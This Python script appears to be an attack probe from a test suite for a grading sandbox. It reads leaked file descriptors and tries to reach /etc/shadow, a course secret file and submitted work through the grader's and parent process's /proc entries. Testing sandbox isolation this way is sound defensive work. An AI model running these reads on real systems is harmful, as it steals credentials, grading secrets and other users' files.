"""Reads whatever files, pipes and sockets were left open when the kernel was started, its own and those of others."""

import os
import stat
from contextlib import suppress
from pathlib import Path

from attacker import GRADER, look, tell

NEEDS_SANDBOX = True

for number in range(3, 256):
    with suppress(OSError):
        kind = os.fstat(number).st_mode
        if stat.S_ISREG(kind):
            tell(os.pread(number, 2_000_000, 0))
        elif stat.S_ISDIR(kind):
            for name in os.listdir(number):
                look(f"/proc/self/fd/{number}/{name}")
for pid in (GRADER, os.getppid()):
    look(f"/proc/{pid}/root/etc/shadow", f"/proc/{pid}/cwd/.course_secret", f"/proc/{pid}/cwd/submitted")
    look(*Path(f"/proc/{pid}/fd").parent.glob("fd/*") if os.access(f"/proc/{pid}/fd", os.R_OK) else ())
